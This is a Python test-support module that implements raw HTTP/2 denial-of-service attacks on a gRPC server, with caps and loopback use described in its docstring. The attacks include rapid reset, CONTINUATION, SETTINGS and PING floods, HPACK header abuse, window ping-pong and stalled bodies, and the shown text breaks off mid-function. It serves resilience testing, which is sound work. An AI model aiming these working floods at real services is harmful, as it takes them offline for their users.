"""HTTP/2 attacks on a gRPC server, for `test_h2_attacks.py`: one function per attack.

Every attack is a raw client written with `hyperframe` frames and an `hpack.Encoder`, over
non-blocking loopback sockets. It runs for `duration` seconds at most, and never past its
volume cap (frames, streams, bytes, connections), then reads on for `SETTLE_S` to see how
the server ended the connection (GOAWAY and its code, EOF, a reset), and closes its sockets
whatever happened. Each returns an `AttackResult`.

The tests run an attack in its own process (at a lower priority, so that it cannot starve
the server or the test's healthy client on a small machine), which is also how to run one
by hand:

    python -m tests.reliability.h2_attacks rapid_reset 127.0.0.1 8081 --duration 2

prints the result as JSON.
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import json
import os
import select
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from types import TracebackType

import hpack
from hyperframe.exceptions import HyperframeError
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RLS_PATH = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit"
REFLECTION_PATH = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
DOMAIN, DESCRIPTOR_KEY = "edge", "ip"  # what the tests' rules file limits

MAX_FRAME = 16_384  # SETTINGS_MAX_FRAME_SIZE's default: every server takes frames this large
DEFAULT_WINDOW = 65_535
MAX_WINDOW = 2**31 - 1
HEADER_TABLE = 4_096  # SETTINGS_HEADER_TABLE_SIZE's default: the server's HPACK table
HIGH_WATER = 256 * 1024  # bytes queued on a connection before an attack waits for the socket
SEND_CHUNK = 1 << 20  # the most one send() is given
READ_CHUNK = 256 * 1024
POLL_S = 0.005  # how long a pump waits for the socket when there is nothing to do at once
CONNECT_TIMEOUT_S = 5.0
HANDSHAKE_TIMEOUT_S = 2.0
SETTLE_S = 0.5  # after an attack: how long to read on for a GOAWAY or an EOF
# A flood whose connection the server closes starts again on a new one, as a real attacker
# would, up to MAX_CONNECTIONS in all, and not in its last RECONNECT_MARGIN_S: a connection
# opened then would have no time to earn its close.
MAX_CONNECTIONS = 64
RECONNECT_MARGIN_S = 0.5

CANCEL = 0x8
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}


def error_name(code: int | None) -> str | None:
    """An HTTP/2 error code's name (RFC 9113 §7), or its hex for an unknown one."""
    if code is None:
        return None
    return ERROR_NAMES.get(code, hex(code))


@dataclass
class AttackResult:
    """What one attack did and how the server answered it."""

    attack: str
    duration_s: float = 0.0  # from the first connection to the end of the settle time
    connections: int = 0
    closed_connections: int = 0  # ended by the server: GOAWAY, EOF or a reset
    closed: bool = False  # every attacking connection was ended by the server
    goaway_code: int | None = None  # the first GOAWAY's error code
    goaway_codes: dict[str, int] = field(default_factory=dict)  # name: connections
    eof_connections: int = 0  # connections that saw EOF (or a reset) from the server
    first_close_s: float | None = None  # when the first connection was ended
    rst_codes: dict[str, int] = field(default_factory=dict)  # RST_STREAM codes: count
    statuses: dict[str, int] = field(default_factory=dict)  # answers' grpc-status: count
    frames_sent: int = 0  # frames that reached the socket (counted in the batches queued)
    bytes_sent: int = 0
    streams_opened: int = 0  # streams whose HEADERS reached the socket
    error: str = ""  # the attack itself failed (e.g. could not connect)

    @property
    def refused(self) -> int:
        """Streams the server turned down: reset, or answered with a non-OK status."""
        answers = sum(n for status, n in self.statuses.items() if status != "0")
        return sum(self.rst_codes.values()) + answers

    @classmethod
    def from_json(cls, text: str) -> AttackResult:
        return cls(**json.loads(text))


# -- HPACK and frames ------------------------------------------------------------------------


def request_fields(authority: str, path: str = RLS_PATH) -> list[tuple[str, str]]:
    """A gRPC request's head, as grpc clients send it."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", authority),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def hpack_integer(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541 §5.1); `first` holds the bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(text: bytes) -> bytes:
    """An HPACK string literal without Huffman coding."""
    return hpack_integer(len(text), 7) + text


def literal_field(name: bytes, value: bytes, *, indexing: bool = False) -> bytes:
    """A field with a literal name: "with incremental indexing" (it enters the dynamic table)
    or "never indexed" (it leaves the table alone), RFC 7541 §6.2."""
    return (b"\x40" if indexing else b"\x10") + hpack_string(name) + hpack_string(value)


def indexed_field(index: int) -> bytes:
    """A field by its table index (RFC 7541 §6.1); the newest dynamic entry is 62."""
    return hpack_integer(index, 7, 0x80)


def literal_head(authority: str, path: str = RLS_PATH) -> bytes:
    """A request head that does not touch the dynamic table: the same bytes every time."""
    sensitive = [hpack.NeverIndexedHeaderTuple(n, v) for n, v in request_fields(authority, path)]
    return hpack.Encoder().encode(sensitive, huffman=False)


def grpc_message(payload: bytes) -> bytes:
    """One length-prefixed, uncompressed gRPC message."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def rate_limit_request() -> bytes:
    """A valid ShouldRateLimit request for the tests' rules."""
    from envoy.extensions.common.ratelimit.v3 import ratelimit_pb2
    from envoy.service.ratelimit.v3 import rls_pb2

    entry = ratelimit_pb2.RateLimitDescriptor.Entry(key=DESCRIPTOR_KEY, value="203.0.113.9")
    request = rls_pb2.RateLimitRequest(
        domain=DOMAIN, descriptors=[ratelimit_pb2.RateLimitDescriptor(entries=[entry])]
    )
    return bytes(request.SerializeToString())


def list_services_request() -> bytes:
    """A server reflection request listing the services."""
    from grpc_reflection.v1alpha import reflection_pb2

    return bytes(reflection_pb2.ServerReflectionRequest(list_services="*").SerializeToString())


def header_frames(
    stream_id: int, block: bytes, *, end_stream: bool = False, end_headers: bool = True
) -> list[Frame]:
    """HEADERS and, past MAX_FRAME, CONTINUATION frames carrying `block`."""
    chunks = [block[i : i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    frames: list[Frame] = [HeadersFrame(stream_id, data=chunks[0])]
    frames += [ContinuationFrame(stream_id, data=chunk) for chunk in chunks[1:]]
    if end_stream:
        frames[0].flags.add("END_STREAM")
    if end_headers:
        frames[-1].flags.add("END_HEADERS")
    return frames


@dataclass
class PendingBody:
    """A request body still to send as flow control allows: `head`, then `zeros` zero bytes."""

    head: bytes
    zeros: int = 0
    end_stream: bool = False

    def __len__(self) -> int:
        return len(self.head) + self.zeros

    def take(self, size: int) -> bytes:
        chunk, self.head = self.head[:size], self.head[size:]
        filler = min(size - len(chunk), self.zeros)
        self.zeros -= filler
        return chunk + bytes(filler)


# -- one connection --------------------------------------------------------------------------


@dataclass
class _Batch:
    end: int  # the queued-byte offset just past the batch
    frames: int
    streams: int


class Wire:
    """One attacking connection: frames go out through a buffer; what the server sends is
    parsed for GOAWAY, RST_STREAM, answers' statuses, SETTINGS and window updates.

    Like a client, once it has sent the preface it acknowledges the server's SETTINGS and
    PINGs when it reads them, and (unless `give_window` is off) gives back window for the
    DATA it reads. Attacks that must not read simply do not pump with `read=True` until they
    end.
    """

    def __init__(self, host: str, port: int, *, rcvbuf: int | None = None) -> None:
        self.started = time.monotonic()
        self.authority = f"{host}:{port}"
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if rcvbuf is not None:  # before connecting, so that the window scale follows it
                self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            self.sock.settimeout(CONNECT_TIMEOUT_S)
            self.sock.connect((host, port))
            self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            self.sock.setblocking(False)
        except BaseException:
            self.sock.close()
            raise
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 20)
        self.give_window = True
        self.preface_sent = False  # nothing is acknowledged before it (it would not be HTTP/2)
        self.out = bytearray()
        self.inbound = bytearray()
        self.queued = 0  # bytes ever queued
        self.frames_queued = 0
        self.streams_queued = 0
        self.bytes_sent = 0
        self.batches: list[_Batch] = []
        self.goaway_code: int | None = None
        self.eof = False  # EOF or a reset from the server
        self.hung_up = False  # the server shut its side, seen without reading (poll)
        self.closed_at: float | None = None
        self.rst_codes: Counter[str] = Counter()
        self.statuses: Counter[str] = Counter()
        self.settings_seen = False
        self.send_window = DEFAULT_WINDOW
        self.peer_initial_window = DEFAULT_WINDOW
        self.stream_windows: dict[int, int] = {}
        self.pending: dict[int, PendingBody] = {}
        self.next_stream_id = 1
        self._unacknowledged: Counter[int] = Counter()  # DATA bytes read, per stream (0: all)
        self._block: tuple[int, bool, bytearray] | None = None  # stream, END_STREAM, block
        self._steady: dict[str, bytes] = {}

    # -- state --

    @property
    def closed(self) -> bool:
        """The server ended the connection (a GOAWAY, EOF or a reset)."""
        return self.goaway_code is not None or self.eof or self.hung_up

    def new_stream(self) -> int:
        stream_id = self.next_stream_id
        self.next_stream_id += 2
        self.stream_windows[stream_id] = self.peer_initial_window
        return stream_id

    def head_block(self, path: str = RLS_PATH) -> bytes:
        """The request head through this connection's encoder: literals that enter the table
        the first time, indices only (the same bytes) from then on."""
        steady = self._steady.get(path)
        if steady is not None:
            return steady
        fields = request_fields(self.authority, path)
        first = self.encoder.encode(fields)
        self._steady[path] = self.encoder.encode(fields)  # the table now holds every field
        return first

    # -- writing --

    def queue(
        self,
        frames: Sequence[Frame] = (),
        *,
        raw: bytes = b"",
        streams: int = 0,
        times: int = 1,
    ) -> None:
        """Adds raw bytes, then the frames (`times` over), to what is sent; `streams` is how
        many streams they open."""
        data = raw + b"".join(frame.serialize() for frame in frames) * times
        self.out += data
        self.queued += len(data)
        self.frames_queued += len(frames) * times
        self.streams_queued += streams
        self.batches.append(_Batch(self.queued, len(frames) * times, streams))

    def handshake(self, settings: dict[int, int] | None = None) -> None:
        """The preface and our SETTINGS; waits for the server's SETTINGS (acknowledged)."""
        self.queue([SettingsFrame(0, settings=settings or {})], raw=PREFACE)
        self.preface_sent = True
        deadline = time.monotonic() + HANDSHAKE_TIMEOUT_S
        while not self.settings_seen and not self.closed and time.monotonic() < deadline:
            self.pump(POLL_S * 4)

    def push_data(self, limit: int = HIGH_WATER) -> bool:
        """Queues DATA for the pending bodies as far as both windows allow (round robin, up to
        `limit` bytes); False once nothing is pending."""
        frames: list[Frame] = []
        budget = limit
        while budget > 0 and self.pending:
            moved = False
            for stream_id, body in list(self.pending.items()):
                window = min(self.send_window, self.stream_windows.get(stream_id, 0))
                size = min(len(body), MAX_FRAME, window, budget)
                if size > 0 or (not len(body) and body.end_stream):
                    frame = DataFrame(stream_id, data=body.take(size))
                    if body.end_stream and not len(body):
                        frame.flags.add("END_STREAM")
                    frames.append(frame)
                    self.send_window -= size
                    self.stream_windows[stream_id] -= size
                    budget -= max(size, 1)
                    moved = True
                if not len(body):
                    del self.pending[stream_id]
            if not moved:
                break
        if frames:
            self.queue(frames)
        return bool(self.pending)

    def _send(self) -> None:
        try:
            sent = self.sock.send(self.out[:SEND_CHUNK])
        except BlockingIOError:
            return
        except OSError:  # EPIPE, ECONNRESET: the server is gone
            self._ended()
            return
        del self.out[:sent]
        self.bytes_sent += sent

    # -- reading --

    def pump(self, timeout: float = 0.0, *, read: bool = True) -> None:
        """Sends what is queued and reads what came, waiting up to `timeout` for either."""
        pump_all([self], timeout, read=read)

    def receive(self, size: int = READ_CHUNK, *, rounds: int = 16) -> None:
        """Reads what the socket has (up to `rounds` reads of `size` bytes) and parses it."""
        for _ in range(rounds):
            try:
                data = self.sock.recv(size)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                self._ended()
                break
            if not data:
                self._ended()
                break
            self.inbound += data
            if len(data) < size:
                break
        self._parse()

    def _ended(self) -> None:
        self.eof = True
        self.out.clear()
        if self.closed_at is None:
            self.closed_at = time.monotonic()

    def _parse(self) -> None:
        data = bytes(self.inbound)
        position = 0
        while len(data) - position >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(data)[position : position + 9])
                if len(data) - position - 9 < length:
                    break
                frame.parse_body(memoryview(data)[position + 9 : position + 9 + length])
            except HyperframeError:
                self.statuses["unparsable frame"] += 1
                position = len(data)
                break
            position += 9 + length
            self._on_frame(frame, length)
        del self.inbound[:position]
        self._give_window()

    def _on_frame(self, frame: Frame, length: int) -> None:
        if isinstance(frame, GoAwayFrame):
            if self.goaway_code is None:
                self.goaway_code = frame.error_code
                self.closed_at = self.closed_at or time.monotonic()
        elif isinstance(frame, RstStreamFrame):
            self.rst_codes[error_name(frame.error_code) or "?"] += 1
            self.stream_windows.pop(frame.stream_id, None)
            self.pending.pop(frame.stream_id, None)
        elif isinstance(frame, HeadersFrame):
            self._block = (frame.stream_id, "END_STREAM" in frame.flags, bytearray(frame.data))
            if "END_HEADERS" in frame.flags:
                self._on_block()
        elif isinstance(frame, ContinuationFrame) and self._block is not None:
            self._block[2].extend(frame.data)
            if "END_HEADERS" in frame.flags:
                self._on_block()
        elif isinstance(frame, SettingsFrame):
            self._on_settings(frame)
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags and self.preface_sent:
            self.queue([PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"])])
        elif isinstance(frame, WindowUpdateFrame):
            if frame.stream_id == 0:
                self.send_window += frame.window_increment
            elif frame.stream_id in self.stream_windows:
                self.stream_windows[frame.stream_id] += frame.window_increment
        elif isinstance(frame, DataFrame):
            self._unacknowledged[0] += length
            self._unacknowledged[frame.stream_id] += length

    def _on_settings(self, frame: SettingsFrame) -> None:
        if "ACK" in frame.flags:
            return
        self.settings_seen = True
        table = frame.settings.get(SettingsFrame.HEADER_TABLE_SIZE)
        if table is not None:
            self.encoder.header_table_size = table
        initial = frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE)
        if initial is not None:
            delta = initial - self.peer_initial_window
            self.peer_initial_window = initial
            for stream_id in self.stream_windows:
                self.stream_windows[stream_id] += delta
        if self.preface_sent:
            self.queue([SettingsFrame(0, flags=["ACK"])])

    def _on_block(self) -> None:
        """A complete header block from the server: an answer's status when it ends a stream."""
        assert self._block is not None
        _, end_stream, block = self._block
        self._block = None
        try:
            fields = dict(self.decoder.decode(bytes(block), raw=True))
        except hpack.HPACKError:
            self.statuses["undecodable"] += 1
            return
        if end_stream:
            status = fields.get(b"grpc-status")
            http = fields.get(b":status", b"200")
            if status is not None:
                self.statuses[status.decode()] += 1
            else:
                self.statuses[f"http {http.decode()}"] += 1

    def _give_window(self) -> None:
        """WINDOW_UPDATE for the DATA read, as a client consuming its answers would."""
        if not self.give_window or self._unacknowledged[0] < DEFAULT_WINDOW // 2:
            return
        frames = [
            WindowUpdateFrame(stream_id, window_increment=size)
            for stream_id, size in self._unacknowledged.items()
            if size > 0
        ]
        self._unacknowledged.clear()
        self.queue(frames)

    # -- the end --

    def counted(self) -> tuple[int, int]:
        """Frames and streams in the batches that reached the socket."""
        sent = [batch for batch in self.batches if batch.end <= self.bytes_sent]
        return sum(b.frames for b in sent), sum(b.streams for b in sent)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


_HANGUP = select.POLLRDHUP | select.POLLHUP | select.POLLERR


def pump_all(wires: Sequence[Wire], timeout: float, *, read: bool = True) -> None:
    """One round on every wire still open: send what is queued, read what came (when
    `read`), waiting up to `timeout` for either. Without `read`, a wire whose server has shut
    its side (FIN) is only marked `hung_up`: what it sent is left unread until the end."""
    live = {w.sock.fileno(): w for w in wires if not w.eof}
    poller = select.poll()
    for fd, wire in live.items():
        events = _HANGUP | (select.POLLIN if read else 0)
        if wire.out and not wire.closed:
            events |= select.POLLOUT
        poller.register(fd, events)
    for fd, events in poller.poll(timeout * 1000):
        wire = live[fd]
        if events & select.POLLOUT:
            wire._send()
        if read and events & (select.POLLIN | _HANGUP):
            wire.receive()
        elif events & _HANGUP:
            wire.hung_up = True
            wire.closed_at = wire.closed_at or time.monotonic()


# -- an attack's frame -----------------------------------------------------------------------

Fill = Callable[[Wire], bool]
Setup = Callable[[Wire], None]
Reconnect = Callable[[], Wire]


class Attack:
    """Connections, a deadline, and the result: `with Attack(name, ...) as a: ...`."""

    def __init__(self, name: str, host: str, port: int, duration: float) -> None:
        self.name = name
        self.host = host
        self.port = port
        self.started = time.monotonic()
        self.deadline = self.started + duration
        self.wires: list[Wire] = []

    def __enter__(self) -> Attack:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        value: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        for wire in self.wires:
            wire.close()

    @property
    def running(self) -> bool:
        return time.monotonic() < self.deadline

    def connect(self, settings: dict[int, int] | None = None, **options: int) -> Wire:
        """A new connection with the preface sent (and the server's SETTINGS read)."""
        wire = Wire(self.host, self.port, **options)
        self.wires.append(wire)
        wire.handshake(settings)
        return wire

    @property
    def frames_queued(self) -> int:
        return sum(wire.frames_queued for wire in self.wires)

    @property
    def streams_queued(self) -> int:
        return sum(wire.streams_queued for wire in self.wires)

    def flood(self, fill: Fill, *, read: bool = True, reconnect: Reconnect | None = None) -> None:
        """Queues `fill(wire)` on every wire whenever its backlog is low, until the deadline,
        every wire is closed, or every `fill` said False (its cap) and all has been sent.

        With `reconnect`, a wire the server closes is replaced by `reconnect()`, a new
        connection set up: at most MAX_CONNECTIONS in all, spread over the duration (one per
        duration / MAX_CONNECTIONS), none in the last RECONNECT_MARGIN_S."""
        exhausted: set[Wire] = set()
        width = len(self.wires)
        spacing = (self.deadline - self.started) / MAX_CONNECTIONS
        next_connect = time.monotonic() + spacing
        while self.running:
            live = [w for w in self.wires if not w.closed]
            if reconnect is not None and len(live) < width and self._may_reconnect():
                if time.monotonic() < next_connect:
                    if not live:
                        time.sleep(min(POLL_S * 4, next_connect - time.monotonic()))
                        continue
                else:
                    try:
                        live.append(reconnect())
                    except OSError:  # the server is gone: nothing more to attack
                        reconnect = None
                    next_connect = time.monotonic() + spacing
            if not live:
                return
            for wire in live:
                if wire not in exhausted and len(wire.out) < HIGH_WATER and not fill(wire):
                    exhausted.add(wire)
            if all(w in exhausted and not w.out for w in live):
                return
            pump_all(live, POLL_S, read=read)

    def _may_reconnect(self) -> bool:
        return (
            len(self.wires) < MAX_CONNECTIONS
            and self.deadline - time.monotonic() > RECONNECT_MARGIN_S
        )

    def repeating(self, frame: Frame, max_frames: int, batch: int) -> Fill:
        """A `fill` that queues `frame` `batch` times a turn, until `max_frames` are queued."""

        def fill(wire: Wire) -> bool:
            if self.frames_queued >= max_frames:
                return False
            wire.queue([frame], times=batch)
            return True

        return fill

    def flood_one(
        self,
        setup: Setup,
        fill: Fill,
        *,
        read: bool = True,
        settings: dict[int, int] | None = None,
    ) -> None:
        """A flood on one connection at a time: `setup(wire)` after the handshake (of each
        new connection, the server closing the last), then `fill` as in `flood`."""

        def reconnect() -> Wire:
            wire = self.connect(settings)
            setup(wire)
            return wire

        reconnect()
        self.flood(fill, read=read, reconnect=reconnect)

    def hold(self, *, read: bool = True) -> None:
        """Keeps the connections open (answering SETTINGS and PINGs when `read`) until the
        deadline or until the server has closed them all."""
        while self.running:
            live = [w for w in self.wires if not w.closed]
            if not live:
                return
            pump_all(live, min(0.05, max(0.0, self.deadline - time.monotonic())), read=read)

    def result(self, settle: float = SETTLE_S) -> AttackResult:
        """Stops sending, reads for `settle` seconds (or until every connection ended), and
        says what happened."""
        for wire in self.wires:
            wire.out.clear()
        end = time.monotonic() + settle
        while time.monotonic() < end:
            live = [w for w in self.wires if not w.eof]
            if not live:
                break
            pump_all(live, 0.02)
        return self._summary()

    def _summary(self) -> AttackResult:
        wires = self.wires
        frames = streams = 0
        for wire in wires:
            sent_frames, sent_streams = wire.counted()
            frames += sent_frames
            streams += sent_streams
        closes = sorted(
            ((w.closed_at, w.goaway_code) for w in wires if w.closed and w.closed_at is not None),
            key=lambda close: close[0],
        )
        with_goaway = [code for _, code in closes if code is not None]
        return AttackResult(
            attack=self.name,
            duration_s=round(time.monotonic() - self.started, 3),
            connections=len(wires),
            closed_connections=sum(w.closed for w in wires),
            closed=bool(wires) and all(w.closed for w in wires),
            goaway_code=with_goaway[0] if with_goaway else None,
            goaway_codes=dict(
                Counter(
                    error_name(w.goaway_code) or "?" for w in wires if w.goaway_code is not None
                )
            ),
            eof_connections=sum(w.eof for w in wires),
            first_close_s=round(closes[0][0] - self.started, 3) if closes else None,
            rst_codes=dict(sum((w.rst_codes for w in wires), Counter())),
            statuses=dict(sum((w.statuses for w in wires), Counter())),
            frames_sent=frames,
            bytes_sent=sum(w.bytes_sent for w in wires),
            streams_opened=streams,
        )


# -- the attacks -----------------------------------------------------------------------------


def rapid_reset(
    host: str, port: int, duration: float, *, max_streams: int = 2_000_000, batch: int = 128
) -> AttackResult:
    """CVE-2023-44487: a request's HEADERS and at once RST_STREAM(CANCEL), on new stream ids,
    as fast as the socket takes them (on a new connection when the server closes one)."""
    with Attack("rapid_reset", host, port, duration) as attack:

        def fill(wire: Wire) -> bool:
            if attack.streams_queued >= max_streams or wire.next_stream_id >= 2**31 - 2 * batch:
                return False
            frames: list[Frame] = []
            for _ in range(batch):
                stream_id = wire.new_stream()
                frames += [
                    HeadersFrame(stream_id, data=wire.head_block(), flags=["END_HEADERS"]),
                    RstStreamFrame(stream_id, error_code=CANCEL),
                ]
                del wire.stream_windows[stream_id]
            wire.queue(frames, streams=batch)
            return True

        attack.flood_one(lambda wire: None, fill)
        return attack.result()


def empty_continuation(
    host: str, port: int, duration: float, *, max_frames: int = 10_000_000, batch: int = 2_000
) -> AttackResult:
    """A HEADERS without END_HEADERS, then zero-length CONTINUATION frames without end."""
    with Attack("empty_continuation", host, port, duration) as attack:

        def setup(wire: Wire) -> None:
            wire.queue([HeadersFrame(1, data=literal_head(wire.authority))], streams=1)

        empty = ContinuationFrame(1, data=b"")
        attack.flood_one(setup, attack.repeating(empty, max_frames, batch))
        return attack.result()


def empty_data(
    host: str, port: int, duration: float, *, max_frames: int = 10_000_000, batch: int = 2_000
) -> AttackResult:
    """CVE-2019-9518: a request, then zero-length DATA frames without END_STREAM, without end
    (they cost no flow control)."""
    with Attack("empty_data", host, port, duration) as attack:

        def setup(wire: Wire) -> None:
            wire.queue(header_frames(wire.new_stream(), wire.head_block()), streams=1)

        empty = DataFrame(1, data=b"")
        attack.flood_one(setup, attack.repeating(empty, max_frames, batch))
        return attack.result()


def settings_flood(
    host: str, port: int, duration: float, *, max_frames: int = 10_000_000, batch: int = 2_000
) -> AttackResult:
    """CVE-2019-9515: SETTINGS frames, each owed an ACK, never reading the ACKs (the server's
    write buffer fills: that is part of the attack)."""
    with Attack("settings_flood", host, port, duration) as attack:
        settings = SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: HEADER_TABLE})
        attack.flood_one(
            lambda wire: None, attack.repeating(settings, max_frames, batch), read=False
        )
        return attack.result()


def ping_flood(
    host: str, port: int, duration: float, *, max_frames: int = 10_000_000, batch: int = 2_000
) -> AttackResult:
    """CVE-2019-9512: PINGs, many per write, never reading the ACKs."""
    with Attack("ping_flood", host, port, duration) as attack:
        ping = PingFrame(0, opaque_data=b"attack!!")
        attack.flood_one(lambda wire: None, attack.repeating(ping, max_frames, batch), read=False)
        return attack.result()


def empty_header_names(
    host: str, port: int, duration: float, *, max_streams: int = 50_000, block_size: int = 16_000
) -> AttackResult:
    """CVE-2019-9516: header blocks full of literal fields with an empty name and value, which
    enter the HPACK table (32 bytes of overhead each), one block per new stream."""
    with Attack("empty_header_names", host, port, duration) as attack:
        empty = literal_field(b"", b"", indexing=True)

        def fill(wire: Wire) -> bool:
            if attack.streams_queued >= max_streams:
                return False
            head = literal_head(wire.authority)
            block = head + empty * ((block_size - len(head)) // len(empty))
            frames: list[Frame] = []
            for _ in range(8):
                frames += header_frames(wire.new_stream(), block)
            wire.queue(frames, streams=8)
            return True

        attack.flood_one(lambda wire: None, fill)
        return attack.result()


def window_pingpong(
    host: str,
    port: int,
    duration: float,
    *,
    streams: int = 1_000,
    max_settings: int = 2_000_000,
    batch: int = 256,
) -> AttackResult:
    """`streams` requests left open, then SETTINGS_INITIAL_WINDOW_SIZE swinging between 0 and
    the largest window: each change makes the server adjust every open stream's window."""
    with Attack("window_pingpong", host, port, duration) as attack:
        sizes = itertools.cycle((0, MAX_WINDOW))

        def fill(wire: Wire) -> bool:
            opened = wire.next_stream_id // 2
            if opened < streams:
                count = min(100, streams - opened)
                frames: list[Frame] = []
                for _ in range(count):
                    frames += header_frames(wire.new_stream(), wire.head_block())
                wire.queue(frames, streams=count)
                return True
            if attack.frames_queued - attack.streams_queued >= max_settings:
                return False
            wire.queue(
                [
                    SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: next(sizes)})
                    for _ in range(batch)
                ]
            )
            return True

        attack.flood_one(lambda wire: None, fill)
        return attack.result()


def large_decoded_headers(
    host: str,
    port: int,
    duration: float,
    *,
    connections: int = 8,
    streams: int = 1_000,
    pad_size: int = 3_600,
    references: int = 14,
) -> AttackResult:
    """`connections` x `streams` requests that never end, each with headers decoding to about
    `references` x `pad_size` bytes (~50 KiB) for ~40 bytes on the wire: one large field in
    the HPACK table referenced again and again, plus a literal that makes each block distinct
    (so that no two decode to the same, shared, objects)."""
    with Attack("large_decoded_headers", host, port, duration) as attack:
        pad = ("x-pad", "p" * pad_size)
        steady_blocks: dict[Wire, bytes] = {}
        for _ in range(connections):
            wire = attack.connect()
            # inserts the head's fields and the pad (~3.9 KiB of the 4 KiB table): the table
            # holds all of them from then on, so later blocks are indices and one literal
            first = wire.encoder.encode([*request_fields(wire.authority), pad])
            steady = wire.encoder.encode(request_fields(wire.authority) + [pad] * references)
            steady_blocks[wire] = steady
            wire.queue(header_frames(wire.new_stream(), first), streams=1)

        def fill(wire: Wire) -> bool:
            opened = wire.next_stream_id // 2
            if opened >= streams:
                return False
            count = min(100, streams - opened)
            frames: list[Frame] = []
            for _ in range(count):
                stream_id = wire.new_stream()
                tag = literal_field(b"x-n", str(stream_id).encode())
                frames += header_frames(stream_id, steady_blocks[wire] + tag)
            wire.queue(frames, streams=count)
            return True

        attack.flood(fill)
        attack.hold()
        return attack.result()


def _pad_counts(total: int, kinds: int, count: int) -> Iterator[tuple[int, ...]]:
    """`count` distinct ways to split `total` references among `kinds` table entries."""
    combos = (c for c in itertools.product(range(total + 1), repeat=kinds - 1) if sum(c) <= total)
    for combo in itertools.islice(combos, count):
        yield (*combo, total - sum(combo))


def idle_cached_blocks(
    host: str,
    port: int,
    duration: float,
    *,
    connections: int = 20,
    blocks: int = 300,
    pad_size: int = 880,
    references: int = 60,
) -> AttackResult:
    """`connections` connections, each making `blocks` complete calls whose header blocks are
    distinct but indices only (so a server may remember them), each decoding to ~55 KiB
    (`references` references to 4 large table entries), then sitting idle."""
    with Attack("idle_cached_blocks", host, port, duration) as attack:
        pads = [(f"x-pad-{k}", "q" * k + "p" * (pad_size - k)) for k in range(4)]
        body = grpc_message(rate_limit_request())
        plans = list(_pad_counts(references, len(pads), blocks))
        for _ in range(connections):
            wire = attack.connect()
            setup = wire.encoder.encode(request_fields(wire.authority) + pads)  # fills the table
            stream_id = wire.new_stream()
            wire.queue(
                [
                    *header_frames(stream_id, setup),
                    DataFrame(stream_id, data=body, flags=["END_STREAM"]),
                ],
                streams=1,
            )
        progress = dict.fromkeys(attack.wires, 0)

        def fill(wire: Wire) -> bool:
            done = progress[wire]
            if done >= len(plans):
                return False
            frames: list[Frame] = []
            for counts in plans[done : done + 20]:
                fields = request_fields(wire.authority)
                for pad, n in zip(pads, counts, strict=True):
                    fields += [pad] * n
                stream_id = wire.new_stream()
                frames += header_frames(stream_id, wire.encoder.encode(fields))
                frames.append(DataFrame(stream_id, data=body, flags=["END_STREAM"]))
            progress[wire] = done + 20
            wire.queue(frames, streams=len(frames) // 2)
            return True

        attack.flood(fill)
        attack.hold()
        return attack.result()


def unended_bodies(
    host: str,
    port: int,
    duration: float,
    *,
    streams: int = 128,
    body_size: int = 4 * 1024 * 1024,
) -> AttackResult:
    """`streams` requests each sending a `body_size` message (announced in its length
    prefix) as fast as the server's windows allow, never ending it."""
    with Attack("unended_bodies", host, port, duration) as attack:
        wire = attack.connect()
        frames: list[Frame] = []
        for _ in range(streams):
            stream_id = wire.new_stream()
            frames += header_frames(stream_id, wire.head_block())
            prefix = b"\x00" + (body_size - 5).to_bytes(4, "big")
            wire.pending[stream_id] = PendingBody(prefix, zeros=body_size - 5)
        wire.queue(frames, streams=streams)
        attack.flood(lambda wire: wire.push_data())
        attack.hold()
        return attack.result()


def reflection_zero_window(
    host: str,
    port: int,
    duration: float,
    *,
    connections: int = 4,
    streams: int = 250,
    messages: int = 100,
) -> AttackResult:
    """SETTINGS_INITIAL_WINDOW_SIZE=0 and no WINDOW_UPDATE ever, then many reflection calls
    (bidi streaming), each sent `messages` list_services requests: every answer must wait."""
    with Attack("reflection_zero_window", host, port, duration) as attack:
        body = grpc_message(list_services_request()) * messages
        for _ in range(connections):
